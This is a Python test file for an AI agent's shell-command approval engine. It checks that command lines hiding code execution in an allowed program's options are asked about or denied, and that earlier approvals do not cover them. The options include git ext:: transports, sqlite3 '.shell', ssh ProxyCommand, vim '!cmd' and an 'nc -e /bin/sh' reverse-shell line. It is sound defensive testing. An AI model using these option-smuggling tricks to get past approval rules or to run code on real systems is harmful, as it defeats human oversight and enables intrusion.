"""Code hidden in an allowed program's options (SPEC P1, P4, A5; "a tool call is ALLOWed only
when we fully understand what it will do").

The policies are ALLOW rules for programs (``git``, ``less``, ``split``, ``sqlite3``,
``curl`` …) with DENY ``touch``/``rm`` at a higher priority. Under them, and under a session
or "always" approval of a harmless use of the same program, each line below would run
``touch``, so it is asked about:

* git forms that run code (clone's own ``-c``, ``remote-ext``, ``--git-dir``,
  ``--template``, ``send-email --to-cmd``), ``less --lesskey-src``/``'+!cmd'``, ``split
  --filter``, ``sqlite3 '.shell'``, ``vim -c '!cmd'``;
* files written through options (``curl --stderr F``, ``split``) under a rule without
  ``allowRedirection``.
"""

from __future__ import annotations

from typing import Any

import pytest

from agentworld.approval.grants import find_covering_grant, grant_for
from agentworld.policy.engine import PolicyEngine
from agentworld.policy.grant_rules import always_rule
from agentworld.policy.loader import load_policy_text
from agentworld.policy.rules import PolicyDecision, Tier
from agentworld.runtime.authorizer import decide_call

ALLOW = PolicyDecision.ALLOW
DENY = PolicyDecision.DENY
ASK = PolicyDecision.ASK_USER

_PROGRAMS = (
    "git less split sqlite3 vim view curl wget ssh nc ncat socat gh sort cat ls grep tee gzip"
)
PROGRAMS_POLICY = f"""
[[rule]]
toolName = "shell_cmd"
commandPrefix = {_PROGRAMS.split()!r}
decision = "allow"
priority = 100

[[rule]]
toolName = "shell_cmd"
commandPrefix = ["touch", "rm"]
decision = "deny"
priority = 200
"""
GIT_ONLY = """
[[rule]]
toolName = "shell_cmd"
commandPrefix = ["git", "less", "split"]
decision = "allow"
allowRedirection = true
priority = 100
"""

CODE_LINES = [
    "git clone -q -c protocol.ext.allow=always 'ext::sh -c touch% PWNED' d",
    "git clone --config=protocol.ext.allow=always 'ext::sh -c touch% PWNED' d",
    "git remote-ext x 'touch PWNED'",
    "git remote-fd 3",
    "git --git-dir=vendor/evil.git --work-tree=. status",
    "git clone -q --template=tpl src d",
    "git init --template=tpl",
    "git send-email --sendmail-cmd='touch PWNED' a.patch",
    "git send-email --to-cmd='touch PWNED' a.patch",
    "git send-email --cc-cmd='touch PWNED' a.patch",
    "less --lesskey-src=keys f",
    "less --lesskey-file=keys f",
    "less -k keys f",
    "less '+!touch x' f",
    "split -n 1 --filter='touch PWNED' f",
    "sqlite3 x.db '.shell touch PWNED'",
    "sqlite3 x.db '.system touch PWNED'",
    "sqlite3 -cmd '.once |touch PWNED' x.db",
    "vim -es -c '!touch PWNED' -c 'q!'",
    "view '+!touch PWNED' f",
    "ssh -o ProxyCommand='touch PWNED' host",
    "ssh -F evil.conf host",
    "wget --use-askpass='touch PWNED' http://127.0.0.1:9/",
    "wget -e 'use_askpass=touch PWNED' http://127.0.0.1:9/",
    "nc -e /bin/sh host 1",
    "ncat --sh-exec 'touch PWNED' host 1",
    "socat - EXEC:'touch PWNED'",
    "gh alias set x '!touch PWNED'",
    "gh extension install owner/gh-evil",
]


def engine(text: str) -> PolicyEngine:
    loaded = load_policy_text(text, source="policy.toml", tier=Tier.USER)
    assert loaded.errors == []
    return PolicyEngine(loaded.rules)


def decide(policy: str, arguments: dict[str, Any]) -> PolicyDecision:
    return engine(policy).evaluate("shell_cmd", arguments).decision


@pytest.mark.parametrize("line", CODE_LINES)
def test_a_line_that_runs_hidden_code_is_asked_about(line: str) -> None:
    assert decide(PROGRAMS_POLICY, {"command": line}) is ASK
    assert (
        engine(PROGRAMS_POLICY).evaluate("shell_cmd", {"command": line}, non_interactive=True).decision
        is DENY
    )


@pytest.mark.parametrize(
    "line", [c for c in CODE_LINES if c.split()[0] in ("git", "less", "split")]
)
def test_no_rule_for_the_program_allows_hidden_code_even_without_deny_rules(line: str) -> None:
    assert decide(GIT_ONLY, {"command": line}) is ASK


@pytest.mark.parametrize(
    ("approved", "later"),
    [
        ("git --version", "git clone -q -c protocol.ext.allow=always 'ext::sh -c touch% PWNED' d"),
        ("git --version", "git remote-ext x 'touch PWNED'"),
        ("git status", "git --git-dir=vendor/evil.git status"),
        ("git status", "git clone -q --template=tpl src d"),
        ("less f", "less --lesskey-src=/dev/stdin f"),
        ("less f", "less '+!touch x' f"),
        ("split -l 100 f part_", "split -n 1 --filter='touch PWNED' f"),
        ("ssh host", "ssh -o ProxyCommand='touch PWNED' host"),
        ("gh pr list", "gh alias set x '!touch PWNED'"),
    ],
)
def test_a_session_grant_of_a_harmless_use_does_not_cover_hidden_code(
    approved: str, later: str
) -> None:
    grant = grant_for(
        "session", world="w", tool_name="shell_cmd", arguments={"command": approved},
        agent="Alice", chat_id="c1", approval_id="a1",
    )  # fmt: skip
    assert grant is not None
    assert (
        find_covering_grant([grant], "shell_cmd", {"command": later}, agent="Alice", chat_id="c1")
        is None
    )
    verdict = decide_call(
        engine(PROGRAMS_POLICY), "shell_cmd", {"command": later}, grants=[grant], agent="Alice", chat_id="c1",
        interactive=False,
    )  # fmt: skip
    assert verdict.decision is DENY


@pytest.mark.parametrize("approved", ["sqlite3 x.db .tables", "vim --version"])
def test_an_interpreter_is_never_remembered(approved: str) -> None:
    grant = grant_for(
        "session", world="w", tool_name="shell_cmd", arguments={"command": approved},
        agent="Alice", chat_id="c1", approval_id="a1",
    )  # fmt: skip
    assert grant is None


@pytest.mark.parametrize(
    "later",
    [
        "git clone -q -c protocol.ext.allow=always 'ext::sh -c touch% PWNED' d",
        "git --git-dir=vendor/evil.git status",
        "git remote-ext x 'touch PWNED'",
    ],
)
def test_an_always_grant_of_git_status_does_not_allow_hidden_code(later: str) -> None:
    grant = grant_for(
        "always", world="w", tool_name="shell_cmd", arguments={"command": "git status"},
        agent="Alice", chat_id="c1", approval_id="a1",
    )  # fmt: skip
    assert grant is not None
    rule = always_rule(grant)
    assert rule is not None
    assert PolicyEngine([rule]).evaluate("shell_cmd", {"command": later}).decision is ASK
    assert PolicyEngine([rule]).evaluate("shell_cmd", {"command": "git status"}).decision is ALLOW



@pytest.mark.parametrize(
    "line",
    [
        "curl -sv --stderr WRITTEN_BY_CURL http://127.0.0.1:9/",
        "curl -w '%output{f}x' http://127.0.0.1:9/",
        "split -l 100 f part_",
        "wget http://127.0.0.1:9/",
        "gzip f",
        "ls | tee listing.txt",
    ],
)
def test_a_write_through_an_option_is_asked_about_without_allow_redirection(line: str) -> None:
    assert decide(PROGRAMS_POLICY, {"command": line}) is ASK


@pytest.mark.parametrize(
    "line",
    [
        "git status",
        "git log -n 3",
        "git diff",
        "less f",
        "curl -s http://127.0.0.1:9/",
        "wget -qO- http://127.0.0.1:9/",
        "gzip -c f",
        "ls | tee",
    ],
)
def test_ordinary_lines_stay_allowed(line: str) -> None:
    assert decide(PROGRAMS_POLICY, {"command": line}) is ALLOW


def test_split_is_allowed_under_allow_redirection() -> None:
    assert decide(GIT_ONLY, {"command": "split -l 100 f part_"}) is ALLOW
